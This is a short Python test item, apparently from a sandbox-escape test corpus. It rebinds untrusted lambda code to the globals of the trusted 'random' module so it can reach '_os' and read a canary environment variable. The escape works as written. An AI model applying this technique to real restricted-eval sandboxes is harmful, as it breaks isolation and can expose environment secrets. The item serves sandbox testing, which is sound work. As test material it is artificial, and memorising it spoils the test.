# id: functiontype-rebind-globals
# family: function-internals
# kind: escape
# invariant: D, E
# origin: a report to numexpr about its filtered eval
# technique: the function type taken from a lambda joins the guest's code with the globals of a trusted module
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random

function_type = type(lambda: 0)
trusted = random.seed.__func__.__globals__
print(function_type((lambda: _os.environ["PADCELL_CANARY"]).__code__, trusted)())
